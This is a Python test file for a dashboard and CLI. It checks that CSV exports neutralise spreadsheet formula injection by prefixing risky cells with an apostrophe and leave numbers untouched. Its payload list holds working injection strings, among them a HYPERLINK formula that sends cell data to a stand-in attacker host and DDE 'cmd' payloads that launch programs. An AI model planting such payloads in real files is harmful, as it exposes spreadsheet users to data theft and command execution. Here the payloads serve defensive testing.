"""CSV formula injection: every CSV the dashboard and the CLI write disarms text cells a
spreadsheet would run, and leaves numbers as numbers."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from dashboard.ui import figures
from scorecard.csvsafe import frame_to_csv, neutralise, rows_to_csv
from warehouse.metrics import export

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "+2.1 pp+cmd|' /C calc'!A0",
    "+1 (+HYPERLINK(1))",
)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_is_prefixed(payload: str) -> None:
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize(
    "value",
    [
        -3,
        -2.5,
        0,
        "-1.5",
        "+3",
        "-12%",
        "+2.1 pp",
        "+2.1 percentage points",
        "+3 days",
        "+1,234 (+5.0%)",
        "kent",
        "",
        None,
    ],
)
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert neutralise(value) == value


def test_frame_csv_neutralises_text_and_keeps_negative_numbers_numeric() -> None:
    frame = pd.DataFrame(
        {
            "evidence": list(PAYLOADS),
            "change": [-1.5, -2, 3, -4, 5, -6, 7, 8, 9],
            "n": range(len(PAYLOADS)),
        }
    )
    rows = _cells(frame_to_csv(frame))
    assert rows[0] == ["evidence", "change", "n"]
    for row, payload in zip(rows[1:], PAYLOADS, strict=True):
        assert row[0] == "'" + payload
        float(row[1])  # still a number, sign kept
    assert rows[1][1] == "-1.5"


def test_every_figure_card_download_is_safe() -> None:
    """The dashboard's one CSV path (every page's figure cards, e.g. recommendation
    evidence) stores the neutralised CSV."""
    frame = pd.DataFrame({"Evidence": ["=cmd|' /C calc'!A0"], "Change": [-4.0]})
    card = figures.figure_card("rec-evidence-card", "Evidence", "2023-24", frame)
    store_id = {"type": figures.CSV_DATA, "index": "rec-evidence-card"}
    stores = [c for c in card.children if getattr(c, "id", None) == store_id]
    rows = _cells(stores[0].data["csv"])
    assert rows[1] == ["'=cmd|' /C calc'!A0", "-4.0"]


def test_metrics_export_csv_is_safe() -> None:
    """`scorecard metrics export --format csv` writes through the same function."""
    row = dict.fromkeys(export.COLUMNS)
    row.update(level="force", org_code="kent", breakdown="=HYPERLINK(1)", value=-0.25)
    rows = _cells(export.to_csv([row]))
    got = dict(zip(rows[0], rows[1], strict=True))
    assert got["breakdown"] == "'=HYPERLINK(1)" and got["value"] == "-0.25"
    assert rows_to_csv(["a"], [["@x"]]) == "a\r\n'@x\r\n"
